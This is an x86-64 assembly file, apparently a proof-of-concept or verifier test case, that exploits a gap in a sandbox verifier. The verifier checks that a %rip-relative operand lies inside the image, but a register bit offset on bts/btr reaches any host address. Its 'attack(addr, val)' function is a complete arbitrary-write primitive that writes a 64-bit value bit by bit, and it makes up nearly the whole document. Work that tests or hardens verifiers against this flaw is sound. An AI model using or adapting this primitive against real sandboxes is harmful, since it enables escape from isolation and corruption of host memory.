# btsrip.s: bts/btr with a register bit offset on a %rip operand. The
# verifier checks that cell(%rip) lies in the image, but the CPU writes bit
# (bitoffset mod 8) of cell + (bitoffset >> 3), a signed 64-bit offset:
# attack(addr, val) writes val at any host address, no control-flow games.
        .text
        .p2align 4, 0xcc
        .globl attack
        .type attack,@function
attack:
        leaq cell(%rip), %rax
        subq %rax, %rdi             # offset of addr from cell
        shlq $3, %rdi               # as a bit offset
        movl $64, %ecx
1:
        btrq %rdi, cell(%rip)       # clear bit
        shrq $1, %rsi
        jnc 2f
        btsq %rdi, cell(%rip)       # set bit
2:
        incq %rdi
        decl %ecx
        jnz 1b
        ret

        .data
        .p2align 3
cell:   .quad 0

        .include "marker.inc"
        .section .note.GNU-stack,"",@progbits
